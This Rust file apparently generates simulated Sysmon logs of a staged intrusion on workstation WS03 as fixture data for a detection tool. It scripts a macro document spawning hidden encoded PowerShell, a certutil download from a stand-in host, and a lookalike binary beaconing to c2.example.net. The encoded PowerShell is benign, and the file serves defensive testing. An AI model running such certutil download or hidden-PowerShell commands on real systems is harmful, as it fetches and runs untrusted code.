//! The story of WS03, the host of the example that has one: a document starts a shell, the shell fetches a program, and the program
//! calls home every ten minutes.
//!
//! Told as a plan: who started whom and when, which name was asked for, who connected to what. The records and the rows that they
//! must give are both made from it.

use crate::{
    evtx_writer::{Event, Value},
    plan::{MISS, Plan, Planned, logged, moment, no_connection, rfc3339, utc_time},
};

const HOST: &str = "WS03";
const USER: &str = r"CORP\carol";
const DOCUMENT: &str =
    r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\carol\Downloads\invoice-4711.docm""#;
/// `Write-Output 'netsift example'`.
const POWERSHELL: &str = "powershell.exe -NoP -W Hidden -Enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAG4AZQB0AHMAaQBmAHQAIABlAHgAYQBtAHAAbABlACcA";

/// How often the program calls home, every so many seconds, and how much later than that it is at most.
const BEACONS: i64 = 40;
const INTERVAL: i64 = 600;
const JITTER: i64 = 37;

struct Process {
    image: &'static str,
    command: &'static str,
    /// The name that it was built with.
    original: &'static str,
    id: u32,
    started: i64,
    ended: Option<i64>,
    /// The names of the processes that it comes from, as far as the log knows them, and its own.
    ancestry: &'static str,
    /// The name that it asked DNS for.
    asked_for: &'static str,
    /// Known only of what was started after the log begins.
    parent: Option<&'static Process>,
}

// Outlook and svchost.exe were started before the log begins.
const OUTLOOK: Process = Process {
    image: r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
    command: r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#,
    original: "Outlook.exe",
    id: 5120,
    started: clock(8, 3, 40),
    ended: None,
    ancestry: "OUTLOOK.EXE",
    asked_for: "",
    parent: None,
};
const SVCHOST: Process = Process {
    image: r"C:\Windows\System32\svchost.exe",
    command: "",
    original: "",
    id: 1044,
    started: clock(7, 58, 2),
    ended: None,
    ancestry: "",
    asked_for: "",
    parent: None,
};
const EXPLORER: Process = Process {
    image: r"C:\Windows\explorer.exe",
    command: r"C:\Windows\Explorer.EXE",
    original: "",
    id: 4212,
    started: clock(8, 2, 11),
    ended: None,
    ancestry: "",
    asked_for: "",
    parent: None,
};
const EDGE: Process = Process {
    image: r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
    command: r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://intranet.corp.example/"#,
    original: "msedge.exe",
    id: 6288,
    started: clock(8, 31, 15),
    ended: Some(clock(15, 20, 0)),
    ancestry: "explorer.exe > msedge.exe",
    asked_for: "",
    parent: Some(&EXPLORER),
};
const WINWORD: Process = Process {
    image: r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    command: DOCUMENT,
    original: "WinWord.exe",
    id: 7012,
    started: clock(8, 41, 7),
    ended: Some(clock(9, 10, 30)),
    ancestry: "OUTLOOK.EXE > WINWORD.EXE",
    asked_for: "",
    parent: Some(&OUTLOOK),
};
const CMD: Process = Process {
    image: r"C:\Windows\System32\cmd.exe",
    command: "cmd.exe /c start /min powershell.exe",
    original: "Cmd.Exe",
    id: 7340,
    started: clock(8, 41, 52),
    ended: Some(clock(8, 42, 6)),
    ancestry: "OUTLOOK.EXE > WINWORD.EXE > cmd.exe",
    asked_for: "",
    parent: Some(&WINWORD),
};
const SHELL: Process = Process {
    image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    command: POWERSHELL,
    original: "PowerShell.EXE",
    id: 7388,
    started: clock(8, 41, 53),
    ended: Some(clock(8, 42, 5)),
    ancestry: "OUTLOOK.EXE > WINWORD.EXE > cmd.exe > powershell.exe",
    asked_for: "",
    parent: Some(&CMD),
};
const CERTUTIL: Process = Process {
    image: r"C:\Windows\System32\certutil.exe",
    command: "certutil.exe -urlcache -f https://files.example.net/update.txt",
    original: "CertUtil.exe",
    id: 7424,
    started: clock(8, 41, 58),
    ended: Some(clock(8, 42, 1)),
    ancestry: "OUTLOOK.EXE > WINWORD.EXE > cmd.exe > powershell.exe > certutil.exe",
    asked_for: "files.example.net",
    parent: Some(&SHELL),
};
/// A path and a name that look like those of Windows' own.
const LOOKALIKE: Process = Process {
    image: r"C:\Users\Public\RegSvcs.exe",
    command: r"C:\Users\Public\RegSvcs.exe /quiet",
    original: "agent.exe",
    id: 7460,
    started: clock(8, 42, 3),
    ended: Some(clock(15, 30, 44)),
    ancestry: "OUTLOOK.EXE > WINWORD.EXE > cmd.exe > powershell.exe > RegSvcs.exe",
    asked_for: "c2.example.net",
    parent: Some(&SHELL),
};

/// That time of the day, as seconds after the first record of the case.
const fn clock(hour: i64, minute: i64, second: i64) -> i64 {
    (hour - 14) * 3600 + (minute - 7) * 60 + second - 9
}

/// All that the host logged, in the order of time.
pub fn records() -> Vec<Planned> {
    let mut records: Vec<Planned> = [EDGE, WINWORD, CMD, SHELL, CERTUTIL, LOOKALIKE]
        .iter()
        .flat_map(|process| [created(process), ended(process)])
        .flatten()
        .collect();
    records.extend(fetching());
    records.extend(calling_home());
    records.extend(everyday());
    records.sort_by_key(|record| record.event.time);
    records
}

/// certutil.exe fetches a file, with two requests.
fn fetching() -> Vec<Planned> {
    let plan = |at, port| Plan { hits: MISS, ..plan(&CERTUTIL, "192.5.5.241", at, port) };
    vec![
        query(&CERTUTIL, "::ffff:192.5.5.241;", clock(8, 41, 58)),
        plan(clock(8, 41, 59), 49_801).planned(),
        plan(clock(8, 42, 0), 49_802).planned(),
    ]
}

/// The program asks for a name and connects to its address, again and again, a little later than the time before.
fn calling_home() -> Vec<Planned> {
    let beacon = |n: i64| {
        let at = clock(8, 42, 10) + n * INTERVAL + n * n * 11 % JITTER;
        let port = 49_810 + 3 * u16::try_from(n).unwrap();
        let plan = plan(&LOOKALIKE, "198.41.0.4", at, port);
        [query(&LOOKALIKE, "::ffff:198.41.0.4;", at - 1), plan.planned()]
    };
    (0..BEACONS).flat_map(beacon).collect()
}

/// What any workstation does: mail, a browser, the domain controller.
fn everyday() -> Vec<Planned> {
    let times = [0, 41, 95, 110, 700, 722, 1503, 3800, 3871, 6400, 9102, 9120, 9131, 13_000, 17_750, 21_901];
    let mut records = Vec::new();
    for (after, port) in times.into_iter().zip(50_100..) {
        let at = clock(8, 31, 20) + after;
        let (mail, domain) = (at + 45 + after * 7 % 97, at - 4 - after % 13);
        let plans = [
            plan(&EDGE, "1.0.0.1", at, port),
            plan(&OUTLOOK, "208.67.222.222", mail, port + 100),
            Plan {
                user: r"NT AUTHORITY\NETWORK SERVICE",
                port: 53,
                transport: "udp",
                ..plan(&SVCHOST, "10.1.0.10", domain, port + 200)
            },
        ];
        records.extend(plans.map(|plan| Plan { hits: MISS, ..plan }.planned()));
    }
    records
}

/// A connection of a process, and what must be known of that.
fn plan(process: &Process, address: &'static str, at: i64, source_port: u16) -> Plan {
    Plan {
        host: HOST,
        image: process.image,
        user: USER,
        guid: guid(process),
        id: process.id,
        src: ("10.1.2.33", source_port),
        dest: (address, address),
        at,
        context: process.parent.map_or_else(|| context_of_old(process), |parent| context(process, parent)),
        ..Plan::default()
    }
}

/// What must be known of a process whose start is in the log.
fn context(process: &Process, parent: &Process) -> String {
    let time = |at| milliseconds(&rfc3339(moment(at)));
    let cells = [
        process.command,
        &hashes(process),
        process.original,
        "Medium",
        &time(process.started),
        &process.ended.map(time).unwrap_or_default(),
        parent.command,
        parent.image,
        parent.image.rsplit('\\').next().unwrap(),
        &parent.id.to_string(),
        &format!("{{{}}}", guid(parent).to_uppercase()),
        process.ancestry,
        process.asked_for,
        "own",
    ];
    cells.map(quoted).join(",")
}

/// What must be known of one that was started before: when, to the second, from its GUID, and what it was from those that it
/// started.
fn context_of_old(process: &Process) -> String {
    let start = rfc3339(moment(process.started)).replace(".1234567Z", ".0000000Z");
    let origin = if process.command.is_empty() { "guid" } else { "child" };
    format!("{},,,,{start},,,,,,,{},,{origin}", quoted(process.command), process.ancestry)
}

/// A cell of CSV.
fn quoted(cell: &str) -> String {
    if cell.contains(['"', ',']) { format!("\"{}\"", cell.replace('"', "\"\"")) } else { cell.to_owned() }
}

/// Sysmon writes `UtcTime` to the millisecond.
fn milliseconds(time: &str) -> String {
    time.replace(".1234567Z", ".1230000Z")
}

/// As Sysmon makes them: the third and the second part are the start in seconds since 1970.
fn guid(process: &Process) -> String {
    let start = 1_709_647_629 + process.started;
    format!("6820d070-{:04x}-{:04x}-{:04x}-000000000300", start & 0xffff, start >> 16, process.id)
}

fn hashes(process: &Process) -> String {
    format!("SHA256={}", format!("{:08X}", process.id * 573_259).repeat(8))
}

/// EventID 1, if its parent is known.
fn created(process: &Process) -> Option<Planned> {
    let parent = process.parent?;
    let event = base(1, 5, process, process.started)
        .with("Image", process.image)
        .with("OriginalFileName", process.original)
        .with("CommandLine", process.command)
        .with("CurrentDirectory", r"C:\Users\carol\")
        .with("User", USER)
        .with("TerminalSessionId", Value::U32(1))
        .with("IntegrityLevel", "Medium")
        .with("Hashes", &*hashes(process))
        .with("ParentProcessGuid", Value::Guid(guid(parent)))
        .with("ParentProcessId", Value::U32(parent.id))
        .with("ParentImage", parent.image)
        .with("ParentCommandLine", parent.command)
        .with("ParentUser", USER);
    Some(no_connection(event))
}

/// EventID 5, if it ended.
fn ended(process: &Process) -> Option<Planned> {
    let event = base(5, 3, process, process.ended?).with("Image", process.image).with("User", USER);
    Some(no_connection(event))
}

/// EventID 22.
fn query(process: &Process, results: &str, at: i64) -> Planned {
    let event = base(22, 5, process, at)
        .with("QueryName", process.asked_for)
        .with("QueryStatus", "0")
        .with("QueryResults", results)
        .with("Image", process.image)
        .with("User", USER);
    no_connection(event)
}

fn base(id: u16, version: u8, process: &Process, at: i64) -> Event {
    logged(Event::sysmon(id, version).on(HOST), at)
        .with("RuleName", "-")
        .with("UtcTime", &*utc_time(at))
        .with("ProcessGuid", Value::Guid(guid(process)))
        .with("ProcessId", Value::U32(process.id))
}
